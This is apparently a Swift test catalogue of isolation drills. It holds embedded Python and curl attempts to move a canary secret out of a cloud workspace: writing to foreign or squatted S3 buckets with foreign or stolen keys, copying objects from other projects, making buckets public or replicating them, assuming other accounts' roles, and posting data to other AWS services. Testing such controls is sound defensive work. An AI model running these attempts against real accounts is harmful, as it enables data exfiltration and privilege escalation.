extension AttackTable {
  /// S3, STS and the other service APIs: foreign keys, foreign buckets, foreign roles.
  static let stores: [Attack] = [
    Attack(
      id: "s3-foreign-credentials", path: .crossAccountCopy, title: "keys of another account brought inside",
      closedBy: "endpoint policy + unknown key (gateway)", provesControls: [.credentialCheck],
      needs: [.store],
      tools: [.python],
      attempts: [
        Attempt(
          "foreign, forged and missing keys", tries: 7,
          .s3(
            #"""
            secret, bucket = CANARY.encode(), E["BUCKET"]
            attempt(put, "drill-foreign-bucket", "data", secret, keys=FOREIGN)
            attempt(put, bucket, f"drill/{CANARY}", secret, keys=FOREIGN)
            attempt(put, bucket, "drill/forged", secret, keys=(own()[0], "0" * 40, own()[2]))
            attempt(put, bucket, "drill/token", secret, keys=(*FOREIGN[:2], "drill"))
            attempt(put, bucket, "drill/unsigned", secret)
            attempt(send, "PUT", S3, presigned("PUT", S3, f"/{bucket}/drill/presigned", FOREIGN), secret)
            attempt(send, "PUT", S3, presigned("PUT", S3, f"/drill-foreign-bucket/{CANARY}", FOREIGN), secret)
            """#), evidence: [.outside, .ownStore, .foreignStore])
      ]),
    Attack(
      id: "s3-foreign-bucket", path: .crossAccountCopy, title: "own keys, another project's bucket",
      closedBy: "identity, bucket and endpoint policy (gateway)", provesControls: [.endpointPolicy],
      needs: [.store, .foreignBucket], tools: [.python],
      attempts: [
        Attempt(
          "put, copy and upload in parts", tries: 7,
          .s3(
            #"""
            import re
            keys, own_bucket = own(), E["BUCKET"]
            secret = CANARY.encode()
            attempt(put, own_bucket, f"drill/{CANARY}", secret, keys=keys)
            for bucket in E["FOREIGN_BUCKETS"].split():
                attempt(put, bucket, "drill/put", secret, keys=keys)
                attempt(put, bucket, f"drill/{CANARY}", b"x", keys=keys)
                attempt(put, bucket, "drill/meta", b"x", headers={"x-amz-meta-drill": CANARY}, keys=keys)
                attempt(put, bucket, "drill/copy", b"", keys=keys,
                        headers={"x-amz-copy-source": f"/{own_bucket}/drill/{CANARY}"})
                attempt(call, "PUT", f"{bucket}.{S3}", "/drill/host", body=secret, keys=keys)
                attempt(send, "PUT", S3, presigned("PUT", S3, f"/{bucket}/drill/presigned", keys), secret)
                def parts():
                    reply = call("POST", S3, f"/{bucket}/drill/parts", query=[("uploads", "")], keys=keys)[2].decode()
                    upload = re.search("<UploadId>(.*?)</UploadId>", reply)
                    query = [("partNumber", "1"), ("uploadId", upload.group(1) if upload else "drill")]
                    tag = call("PUT", S3, f"/{bucket}/drill/parts", query=query, body=secret, keys=keys)[1].get("ETag", "")
                    call("POST", S3, f"/{bucket}/drill/parts", query=query[1:], keys=keys, body=(
                        "<CompleteMultipartUpload><Part><PartNumber>1</PartNumber>"
                        f"<ETag>{tag}</ETag></Part></CompleteMultipartUpload>").encode())
                attempt(parts)
            """#), evidence: [.outside, .foreignStore], seconds: 40),
        Attempt(
          "get and copy out of it", tries: 4,
          .s3(
            #"""
            keys, own_bucket = own(), E["BUCKET"]
            def show(answer):
                print(answer[2].decode("utf-8", "replace") if answer else "", flush=True)
            for bucket in E["FOREIGN_BUCKETS"].split():
                show(attempt(call, "GET", S3, f"/{bucket}/drill-planted-object", keys=keys))
                show(attempt(call, "GET", f"{bucket}.{S3}", "/drill-planted-object", keys=keys))
                show(attempt(send, "GET", S3, presigned("GET", S3, f"/{bucket}/drill-planted-object", keys)))
                attempt(put, own_bucket, "drill/fetched", b"", keys=keys,
                        headers={"x-amz-copy-source": f"/{bucket}/drill-planted-object"})
                show(attempt(call, "GET", S3, f"/{own_bucket}/drill/fetched", keys=keys))
            """#), secret: .foreignObject, evidence: [.output], seconds: 40),
      ]),
    Attack(
      id: "s3-neighbour-credentials", path: .crossAccountCopy,
      title: "another project's keys, stolen and used here",
      closedBy: "a bucket answers through its own project's door only (gateway)", needs: [.foreignBucket],
      tools: [.python],
      attempts: [
        Attempt(
          "put with stolen keys", tries: 3,
          .s3(
            #"""
            keys, secret = stolen(), CANARY.encode()
            for bucket in E["FOREIGN_BUCKETS"].split():
                attempt(put, bucket, "drill/stolen", secret, keys=keys)
                attempt(send, "PUT", S3, presigned("PUT", S3, f"/{bucket}/drill/stolen-url", keys), secret)
                attempt(put, bucket, "drill/stolen-copy", b"x", keys=keys, headers={"x-amz-tagging": f"drill={CANARY}"})
            """#), evidence: [.outside, .foreignStore])
      ]),
    Attack(
      id: "s3-presigned-url", path: .crossAccountCopy, title: "an own presigned URL, used by somebody else",
      closedBy: "a bucket answers through its own project's door only (gateway)",
      needs: [.store, .neighbour],
      tools: [.python],
      attempts: [
        Attempt(
          "get from the other workspace", tries: 2, .bash("true"),
          receiver: .s3(
            #"""
            ready()
            sys.stdin.read()
            def show(answer):
                print(answer[2].decode("utf-8", "replace") if answer else "", flush=True)
            show(attempt(send, "GET", S3, E["OWN_URL"]))
            show(attempt(send, "GET", S3, E["OWN_URL"], b"", {"x-amz-source-vpce": "vpce-drill", "via": S3}))
            """#), secret: .ownObject, evidence: [.receiver])
      ]),
    Attack(
      id: "s3-name-squatting", path: .crossAccountCopy, title: "buckets that do not exist yet, other regions",
      closedBy: "organisation's resources only (gateway)", needs: [.store], tools: [.python],
      attempts: [
        Attempt(
          "unknown names, bucket creation, other regions", tries: 9,
          .s3(
            #"""
            keys, secret = own(), CANARY.encode()
            name = f"drill-{CANARY}"
            attempt(put, name, "data", secret, keys=keys)
            attempt(call, "PUT", S3, f"/{name}", keys=keys)
            attempt(call, "PUT", f"{name}.{S3}", "/", keys=keys)
            attempt(put, name, "data", secret, keys=keys)
            for host in ("s3.amazonaws.com", "s3.sa-east-1.amazonaws.com", "s3-accelerate.amazonaws.com",
                         f"{name}.s3-accelerate.amazonaws.com", f"s3-fips.{REGION}.amazonaws.com"):
                attempt(call, "PUT", host, f"/{name}/data", body=secret, keys=keys)
            """#), evidence: [.outside, .foreignStore], seconds: 60)
      ]),
    Attack(
      id: "s3-publish", path: .crossAccountCopy,
      title: "making an own bucket public or its content leave by itself",
      closedBy: "organisation guardrail (gateway)", needs: [.store, .neighbour], tools: [.python],
      attempts: [
        Attempt(
          "policy, ACL, website, replication, notification, then an anonymous get", tries: 8,
          .s3(
            #"""
            import json
            keys, bucket, arn = own(), E["BUCKET"], f"arn:aws:s3:::{E['BUCKET']}"
            policy = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*",
                                 "Action": "s3:*", "Resource": [arn, arn + "/*"]}]}).encode()
            attempt(put, bucket, "drill/public", CANARY.encode(), keys=keys)
            attempt(put, bucket, "drill/acl", CANARY.encode(), headers={"x-amz-acl": "public-read"}, keys=keys)
            attempt(call, "PUT", S3, f"/{bucket}", query=[("policy", "")], body=policy, keys=keys)
            attempt(call, "PUT", S3, f"/{bucket}", query=[("acl", "")], headers={"x-amz-acl": "public-read-write"}, keys=keys)
            for door in ("website", "replication", "notification", "logging", "inventory"):
                body = f"<Configuration><Destination>arn:aws:s3:::drill-{CANARY}</Destination></Configuration>".encode()
                attempt(call, "PUT", S3, f"/{bucket}", query=[(door, "")], body=body, keys=keys)
            """#),
          receiver: .s3(
            #"""
            ready()
            sys.stdin.read()
            for keys in (None, own()):
                for key in ("drill/public", "drill/acl"):
                    answer = attempt(call, "GET", S3, f"/{E['BUCKET']}/{key}", keys=keys)
                    print(answer[2].decode("utf-8", "replace") if answer else "", flush=True)
            """#), evidence: [.outside, .receiver], seconds: 40)
      ]),
    Attack(
      id: "sts-foreign-role", path: .crossAccountCopy, title: "stepping into a role of somebody else",
      closedBy: "role trust and endpoint policy (gateway)", needs: [.store], tools: [.python],
      attempts: [
        Attempt(
          "roles of another account and of another project", tries: 5,
          .s3(
            #"""
            keys = own()
            def assume(role, keys, name):
                query = urllib.parse.urlencode({"Action": "AssumeRole", "Version": "2011-06-15", "RoleArn": role,
                                                "RoleSessionName": name, "Tags.member.1.Key": "drill",
                                                "Tags.member.1.Value": name}).encode()
                answer = call("POST", STS, "/", body=query, keys=keys, service="sts",
                              headers={"content-type": "application/x-www-form-urlencoded"})
                if b"<SecretAccessKey>" in answer[2]:
                    gained()
            account = E["ACCOUNT"]
            for role in (f"arn:aws:iam::999988887777:role/{CANARY}", f"arn:aws:iam::{account}:role/{E['NEIGHBOUR_PROJECT']}-workspace",
                         f"arn:aws:iam::{account}:role/{E['NEIGHBOUR_PROJECT']}-reader", f"arn:aws:iam::{account}:role/Admin"):
                attempt(assume, role, keys, CANARY)
            attempt(assume, f"arn:aws:iam::999988887777:role/{CANARY}", FOREIGN, CANARY)
            """#), evidence: [.outside, .output])
      ]),
    Attack(
      id: "other-service-api", path: .crossAccountCopy, title: "a service API that nobody opened",
      closedBy: "listed names and hosts only (gateway)", tools: [.curl],
      attempts: [
        Attempt(
          "nine services, by name, by address and through the proxy", tries: 27,
          .bash(
            #"""
            for service in kms dynamodb sns sqs lambda logs secretsmanager sagemaker api.ecr; do
              url="https://$service.$REGION.amazonaws.com/?data=$CANARY"
              direct --data "$CANARY" "$url"
              direct --connect-to "::$SINK:" --data "$CANARY" "$url"
              proxied --noproxy '' --data "$CANARY" "$url"
            done
            """#), seconds: 60)
      ]),
  ]
}
